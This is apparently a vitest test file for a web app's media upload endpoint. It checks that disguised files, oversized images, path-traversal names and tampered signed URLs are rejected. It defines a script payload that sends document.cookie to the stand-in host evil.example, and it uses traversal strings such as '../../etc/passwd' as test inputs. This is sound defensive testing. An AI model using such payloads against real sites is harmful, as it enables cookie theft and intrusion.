import { eq } from 'drizzle-orm'
import { afterAll, beforeEach, describe, expect, it } from 'vitest'
import { media } from '#server/platform/db/schema/index.ts'
import { makePng } from '#server/platform/files/testing/sample-files.ts'
import { createTestApp } from '#server/testing/create-test-app.ts'
import type { TestUser } from '#server/testing/test-user.ts'

const test = await createTestApp()
let ada: TestUser
beforeEach(async () => {
  await test.reset()
  ada = await test.user()
})
afterAll(() => test.close())

const PNG = makePng(16, 9)
const latin1 = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0))
const joined = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) => [...part]))
const SCRIPT = '<script>fetch("//evil.example?" + document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`

interface UploadRequest {
  name?: string
  type?: string
  size?: number
}

const ask = ({ name = 'a.png', type = 'image/png', size = PNG.length }: UploadRequest = {}) =>
  test.call('getGenericPresignedUrl', {
    as: ada,
    body: { file_name: name, content_type: type, media_args: { size_bytes: size } },
  })

async function reserve(options: UploadRequest = {}) {
  const { status, body } = await ask(options)
  expect(status).toBe(200)
  const { presigned_url: url, media: made } = body as { presigned_url: string; media: { id: string } }
  return { url, id: made.id }
}

const put = (url: string, bytes: Uint8Array<ArrayBuffer> | ReadableStream, headers: Record<string, string> = {}) =>
  Promise.resolve(
    test.backend.fetch(
      // `duplex` is required for streams; a stream has no length.
      new Request(`http://localhost:4400${url}`, {
        method: 'PUT',
        body: bytes,
        headers: { 'Content-Type': 'image/png', ...headers },
        duplex: 'half',
      } as RequestInit),
    ),
  )

const read = async (id: string) => (await test.db.select().from(media).where(eq(media.id, id)))[0]
const served = async (id: string) => {
  const { url } = await test.ok('getMedia', { as: ada, params: { media_id: id } })
  return test.backend.fetch(new Request(`http://localhost:4400${url}`))
}

describe('a file that only claims to be an image', () => {
  it.each([
    ['HTML', latin1(`<!doctype html>${SCRIPT}`)],
    ['SVG', latin1(SVG)],
    ['XML before an SVG', latin1(`<?xml version="1.0"?>${SVG}`)],
    ['a PDF', latin1('%PDF-1.7 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')],
    ['HTML before a PNG', joined(latin1(SCRIPT), PNG)],
    ['a program', latin1(`MZ${'a'.repeat(100)}`)],
  ])('a file that only claims to be an image is not stored: %s', async (_, bytes) => {
    const { url, id } = await reserve({ size: bytes.length })
    expect((await put(url, bytes)).status).toBe(400)
    expect(await read(id)).toMatchObject({ status: 'FAILED' })
    expect(test.files.keys()).toEqual([])
  })

  it('a PNG that ends in HTML is served only as an image', async () => {
    const bytes = joined(PNG, latin1(SCRIPT))
    const { url, id } = await reserve({ name: 'both.html', size: bytes.length })
    expect((await put(url, bytes)).status).toBe(200)
    const { headers } = await served(id)
    expect(headers.get('content-type')).toBe('image/png')
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(headers.get('content-security-policy')).toContain('sandbox')
  })

  it.each(['image/svg+xml', 'text/html', 'application/xhtml+xml', 'application/javascript', 'application/pdf'])(
    'an upload of type %s gets no URL',
    async (type) => {
      expect((await ask({ type })).status).toBe(415)
    },
  )
})

describe('the size', () => {
  it('rejects an upload larger than announced, with or without a length', async () => {
    const { url, id } = await reserve({ size: PNG.length })
    const more = joined(PNG, new Uint8Array(1))
    expect((await put(url, more)).status).toBe(413)
    expect((await put(url, new Blob([more]).stream())).status).toBe(413)
    expect(test.files.keys()).toEqual([])
    expect(await read(id)).toMatchObject({ status: 'PENDING' })
    expect((await put(url, new Blob([PNG]).stream())).status).toBe(200)
  })

  it('rejects an upload smaller than announced', async () => {
    const { url } = await reserve({ size: PNG.length })
    expect((await put(url, PNG.slice(0, -1))).status).toBe(400)
    expect((await put(url, new Blob([PNG.slice(0, -1)]).stream())).status).toBe(400)
  })

  it('rejects an upload above the size limit', async () => {
    expect((await ask({ size: 25_000_000 })).status).toBe(200)
    expect((await ask({ size: 25_000_001 })).status).toBe(413)
  })

  it('rejects an empty upload and marks the media as failed, with a message', async () => {
    const { url, id } = await reserve({ size: 0 })
    expect((await put(url, new Uint8Array(0))).status).toBe(400)
    expect(await read(id)).toMatchObject({ status: 'FAILED', errorMessage: expect.stringMatching(/\w/) })
  })

  it('rejects a pixel bomb by its number of pixels', async () => {
    const bomb = makePng(30_000, 30_000)
    const { url, id } = await reserve({ size: bomb.length })
    expect((await put(url, bomb)).status).toBe(400)
    expect(await read(id)).toMatchObject({ status: 'FAILED' })
    expect(test.files.keys()).toEqual([])
  })
})

describe('the name', () => {
  it.each([
    '../../etc/passwd',
    '..\\..\\boot.ini',
    '/etc/passwd',
    'a.png/../../b',
    '%2e%2e%2fa.png',
    'con',
    '.htaccess',
  ])('a file name is never part of an upload URL: %s', async (name) => {
    const { url, id } = await reserve({ name })
    expect(url).toMatch(new RegExp(`^/files/upload/media/${id}\\.png\\?`))
    expect((await put(url, PNG)).status).toBe(200)
    expect(test.files.keys()).toEqual([expect.stringMatching(new RegExp(`^media/${id}-[0-9a-f-]{36}\\.png$`))])
  })

  it.each(['', '   ', 'a\u0000.png', 'x'.repeat(300)])('rejects the file name %j', async (name) => {
    expect((await ask({ name })).status).toBe(400)
  })
})

describe('an upload URL', () => {
  const tampered: [name: string, (url: string) => string][] = [
    ['another path', (url) => url.replace(/media\/(\w)/, (_, first) => `media/${first === '0' ? '1' : '0'}`)],
    ['a path upwards', (url) => url.replace('/media/', '/media/../')],
    ['an encoded path upwards', (url) => url.replace('/media/', '/media/%2e%2e/')],
    ['another type', (url) => url.replace('image%2Fpng', 'text%2Fhtml')],
    ['another size', (url) => url.replace(/size=\d+/, 'size=1000000')],
    ['another end', (url) => url.replace(/exp=\d+/, 'exp=99999999999')],
    ['no signature', (url) => url.replace(/sig=\w+/, '')],
    ['another signature', (url) => url.replace(/sig=\w/, 'sig=g')],
  ]
  it.each(tampered)('an upload URL does not work with %s', async (_, change) => {
    const { url, id } = await reserve()
    expect([403, 404]).toContain((await put(change(url), PNG)).status)
    expect(test.files.keys()).toEqual([])
    expect(await read(id)).toMatchObject({ status: 'PENDING' })
  })

  it('an upload URL accepts only its own type, once, and for an hour', async () => {
    const { url } = await reserve()
    expect((await put(url, PNG, { 'Content-Type': 'text/html' })).status).toBe(415)
    expect((await put(url, PNG)).status).toBe(200)
    expect((await put(url, PNG)).status).toBe(409)
    const late = await reserve()
    test.clock.advance(60 * 60 * 1000)
    expect((await put(late.url, PNG)).status).toBe(403)
  })
})
